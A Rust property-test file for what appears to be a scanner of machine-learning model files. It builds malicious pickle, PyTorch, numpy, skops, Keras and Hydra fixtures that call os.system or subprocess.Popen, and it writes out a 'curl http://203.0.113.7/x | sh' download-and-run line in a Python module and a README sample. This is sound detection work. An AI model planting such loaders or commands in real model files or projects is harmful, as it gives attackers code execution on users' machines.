//! What holds for any bytes: no panic, no clean verdict where something was left unread, and no way to make a payload
//! better by damage or by more bytes behind it.

use std::io::Write as _;

use proptest::prelude::*;
use sensor_scan::source::MemorySource;
use sensor_scan::{Limits, Policy, Report, Verdict, scan, sniff};

/// `os.system("true")`.
const MALICIOUS: &[u8] = b"\x80\x02cposix\nsystem\nq\x00X\x04\x00\x00\x00trueq\x01\x85q\x02Rq\x03.";

/// `collections.OrderedDict()`.
const BENIGN: &[u8] = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01.";

fn report(bytes: &[u8], name: &str) -> Report {
    let source = MemorySource::new(bytes, name.as_bytes());
    sniff(&source);
    scan(&source, &Limits::default(), &Policy::standard())
}

fn crc(bytes: &[u8]) -> u32 {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    crc.sum()
}

/// Stored or deflated members in an archive.
fn zip_of(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let (mut out, mut central) = (Vec::new(), Vec::new());
    for (name, data, deflated) in members {
        let mut packed = data.to_vec();
        if *deflated {
            let mut writer = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::fast());
            writer.write_all(data).expect("in memory");
            packed = writer.finish().expect("in memory");
        }
        let mut fixed = [0_u8; 26];
        fixed[..2].copy_from_slice(&20_u16.to_le_bytes());
        fixed[4] = if *deflated { 8 } else { 0 };
        fixed[10..14].copy_from_slice(&crc(data).to_le_bytes());
        fixed[14..18].copy_from_slice(&(packed.len() as u32).to_le_bytes());
        fixed[18..22].copy_from_slice(&(data.len() as u32).to_le_bytes());
        fixed[22..24].copy_from_slice(&(name.len() as u16).to_le_bytes());
        let start = (out.len() as u32).to_le_bytes();
        central.extend([b"PK\x01\x02\x14\0", &fixed[..], &[0; 10], &start, name.as_bytes()].concat());
        out.extend([b"PK\x03\x04", &fixed[..], name.as_bytes(), &packed].concat());
    }
    let (start, bytes) = (out.len() as u32, central.len() as u32);
    out.extend(central);
    let count = (members.len() as u16).to_le_bytes();
    out.extend([b"PK\x05\x06\0\0\0\0".as_slice(), &count, &count].concat());
    out.extend([bytes.to_le_bytes(), start.to_le_bytes()].concat());
    out.extend([0; 2]);
    out
}

fn zip(name: &str, data: &[u8], deflated: bool) -> Vec<u8> {
    zip_of(&[(name, data, deflated)])
}

fn npy(descr: &str, data: &[u8]) -> Vec<u8> {
    let header = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}\n");
    [b"\x93NUMPY\x01\x00", &(header.len() as u16).to_le_bytes()[..], header.as_bytes(), data].concat()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    writer.write_all(data).expect("in memory");
    writer.finish().expect("in memory")
}

fn tar(name: &str, data: &[u8]) -> Vec<u8> {
    let mut block = vec![0_u8; 512];
    block[..name.len()].copy_from_slice(name.as_bytes());
    block[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
    block[148..156].fill(b' ');
    block[156] = b'0';
    let sum: u32 = block.iter().map(|byte| u32::from(*byte)).sum();
    block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    block.extend(data);
    block.resize(block.len().next_multiple_of(512) + 1024, 0);
    block
}

fn legacy(object: &[u8]) -> Vec<u8> {
    let start = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}q\x00.";
    [&start[..], object, b"\x80\x02]q\x00."].concat()
}

fn safetensors() -> Vec<u8> {
    let header = br#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}"#;
    [&(header.len() as u64).to_le_bytes()[..], header, &[0; 4]].concat()
}

/// The payload in every container that has a reader.
fn malicious() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("a.pkl", MALICIOUS.to_vec()),
        ("a.pt", zip("m/data.pkl", MALICIOUS, false)),
        ("b.pt", zip("m/data.pkl", MALICIOUS, true)),
        ("c.pt", legacy(MALICIOUS)),
        ("a.npy", npy("|O", MALICIOUS)),
        ("a.npz", zip("a.npy", &npy("|O", MALICIOUS), true)),
        ("a.pkl.gz", gzip(MALICIOUS)),
        ("a.tar", tar("a/b.pkl", MALICIOUS)),
        ("a.tar.gz", gzip(&tar("a/b.pt", &zip("m/data.pkl", MALICIOUS, true)))),
        ("a.zip", zip("a.pt", &legacy(MALICIOUS), true)),
        ("a.7z", seven_z()),
        ("a.skops", zip("schema.json", SCHEMA, false)),
        ("b.skops", zip_of(&[("schema.json", b"{}", true), ("x.npy", &npy("|O", MALICIOUS), true)])),
        ("script.pt", torch_script(&[("m/constants.pkl", MALICIOUS)])),
        ("a.pt2", zip_of(&[("m/archive_format", b"pt2", false), ("m/data/weights/w", &legacy(MALICIOUS), false)])),
        ("a.keras", zip("config.json", LAMBDA, true)),
        ("repository.zip", zip_of(&[("m/config.json", AUTO_MAP, true), ("m/modeling_x.py", SOURCE, true)])),
        ("a.yaml", HYDRA.to_vec()),
        ("modeling_x.py", SOURCE.to_vec()),
    ]
}

/// `subprocess.Popen` as a type that skops makes.
const SCHEMA: &[u8] = br#"{"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "__id__": 1,
    "content": {}, "protocol": 1}"#;
const LAMBDA: &[u8] =
    br#"{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers",
    "class_name": "Dense", "config": {"activation": {"module": "os", "class_name": "system", "config": {}}}}]}}"#;
const AUTO_MAP: &[u8] = br#"{"auto_map": {"AutoModel": "modeling_x.M"}}"#;
const SOURCE: &[u8] = b"import os\nos.system('curl http://203.0.113.7/x | sh')\nclass M: pass\n";
const HYDRA: &[u8] = b"a:\n  _target_: os.system\n  command: id\n";

/// [`MALICIOUS`] as the copied member of an archive.
fn seven_z() -> Vec<u8> {
    const HEX: &str = "\
        377abcaf271c0004565a624f5d0000000000000014000000000000009a22a7f3800263706f7369780a73797374656d0a\
        58040000007472756585522e01003c0104060001091c00070b01000101000c1c00080a014da5aa6c0000050119010011\
        050078000000140a010040376e72337ddd01150601002080808100000017061c01094100070b010001212101180c3d00\
        00";
    let digits: Vec<u8> = HEX.chars().filter_map(|char| Some(char.to_digit(16)? as u8)).collect();
    digits.chunks_exact(2).map(|pair| pair[0] << 4 | pair[1]).collect()
}

/// An archive as `torch.jit.save` writes it.
fn torch_script(more: &[(&str, &[u8])]) -> Vec<u8> {
    let ordinary: [(&str, &[u8], bool); 2] = [("m/data.pkl", BENIGN, false), ("m/version", b"3\n", false)];
    let members: Vec<_> = ordinary.into_iter().chain(more.iter().map(|(name, data)| (*name, *data, false))).collect();
    zip_of(&members)
}

/// What is worth a look: more bytes must not make it clean.
fn suspicious() -> Vec<(&'static str, Vec<u8>)> {
    let writes: &[u8] =
        b"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    torch.save(x, \"/srv/x\")\n    return x\n";
    vec![
        ("script.pt", torch_script(&[("m/constants.pkl", BENIGN), ("m/code/__torch__.py", writes)])),
        ("imports.pt", torch_script(&[("m/constants.pkl", BENIGN), ("m/code/__torch__.py", b"import os\n")])),
        ("requirements.txt", b"--extra-index-url http://203.0.113.7/\nx\n".to_vec()),
        ("README.md", b"```\ncurl http://203.0.113.7/x | sh\n```\n".to_vec()),
    ]
}

fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let mut samples = malicious();
    samples.push(("a.safetensors", safetensors()));
    samples.push(("b.npy", npy("<f8", &[0; 8])));
    samples
}

#[test]
fn the_samples_are_what_they_are_called() {
    for (name, bytes) in malicious() {
        let report = report(&bytes, name);
        assert_eq!(report.verdict, Verdict::Malicious, "{name}: {:?}", report.findings);
    }
    assert_eq!(report(&safetensors(), "a.safetensors").verdict, Verdict::Clean);
    assert_eq!(report(&npy("<f8", &[0; 8]), "b.npy").verdict, Verdict::Clean);
}

#[test]
fn a_header_length_that_looks_like_a_protocol_is_no_pickle() {
    // 128 is 0x80 0x00, as PROTO 0 is; 640 is PROTO 2.
    for length in [128_usize, 384, 640] {
        let mut header = br#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}"#.to_vec();
        header.resize(length, b' ');
        let bytes = [&(length as u64).to_le_bytes()[..], &header, &[0; 4]].concat();
        let report = report(&bytes, "a.safetensors");
        assert_eq!((report.verdict, report.findings), (Verdict::Clean, vec![]), "{length}");
    }
}

#[test]
fn numbers_that_start_like_opcodes_are_numbers() {
    // The counter of an optimiser is a tensor of four bytes: 0x6a is LONG_BINGET, and its operand is cut off.
    for first in 0..=u8::MAX {
        let bytes = zip_of(&[("m/data.pkl", BENIGN, false), ("m/data/0", &[first, 0xe0, 0x04, 0xbf], false)]);
        let report = report(&bytes, "a.pt");
        assert_eq!((report.verdict, report.coverage.complete), (Verdict::Clean, true), "{first:#x}: {report:?}");
    }
}

#[test]
fn every_prefix_is_read_without_panic_and_never_wrongly_called_clean() {
    for (name, bytes) in samples() {
        for len in 0..bytes.len() {
            let report = report(&bytes[..len], name);
            assert!(report.verdict != Verdict::Clean || report.coverage.complete, "{name} cut to {len}");
        }
    }
}

#[test]
fn more_bytes_behind_a_payload_do_not_make_it_better() {
    let tails: [&[u8]; 6] = [b"\0", &[0xff; 3000], b"PK\x05\x06\0\0", b"\x80\x02}.", b"junk\n.", &[0; 70_000]];
    for (name, bytes) in malicious() {
        for tail in tails {
            let longer = [&bytes, tail].concat();
            let report = report(&longer, name);
            assert_eq!(report.verdict, Verdict::Malicious, "{name} and {} bytes: {:?}", tail.len(), report.findings);
        }
    }
    for (name, bytes) in suspicious() {
        let flagged = |report: &Report| matches!(report.verdict, Verdict::Suspicious | Verdict::Malicious);
        assert!(flagged(&report(&bytes, name)), "{name}");
        for tail in tails {
            let report = report(&[&bytes, tail].concat(), name);
            assert!(flagged(&report), "{name} and {} bytes: {:?}", tail.len(), report.findings);
        }
    }
}

#[test]
fn the_verdict_is_the_same_whatever_the_name() {
    // Text is read as what its name says.
    for (_, bytes) in malicious().into_iter().filter(|(name, _)| !name.ends_with(".yaml") && !name.ends_with(".py")) {
        for name in ["", "x", "x.safetensors", "x.txt", "x.gguf", "x.npy", "\u{202e}.zip"] {
            assert_eq!(report(&bytes, name).verdict, Verdict::Malicious, "{name}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn flipped_bytes_never_panic(index in any::<prop::sample::Index>(), flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8)) {
        let mut samples = samples();
        let (name, mut bytes) = samples.swap_remove(index.index(samples.len()));
        for (at, value) in flips {
            let at = at.index(bytes.len());
            bytes[at] ^= value;
        }
        let report = report(&bytes, name);
        prop_assert!(report.verdict != Verdict::Clean || report.coverage.complete);
    }

    #[test]
    fn any_bytes_behind_any_magic_never_panic(index in 0..9_usize, tail in prop::collection::vec(any::<u8>(), 0..2000)) {
        let magics: [&[u8]; 9] = [b"", b"\x80\x04", b"PK\x03\x04", b"\x93NUMPY\x01\x00", b"\x1f\x8b\x08", b"\x78\x9c",
            b"\xfd7zXZ\0", b"\x04\x22\x4d\x18", b"\x28\xb5\x2f\xfd"];
        let bytes = [magics[index], &tail[..]].concat();
        let report = report(&bytes, "model.bin");
        prop_assert!(report.verdict != Verdict::Clean || report.coverage.complete);
    }

    #[test]
    fn what_stands_before_an_archive_does_not_hide_it(prefix in prop::collection::vec(any::<u8>(), 1..200)) {
        let bytes = [&prefix[..], &zip("m/data.pkl", MALICIOUS, true)].concat();
        prop_assert_eq!(report(&bytes, "model.bin").verdict, Verdict::Malicious);
    }
}
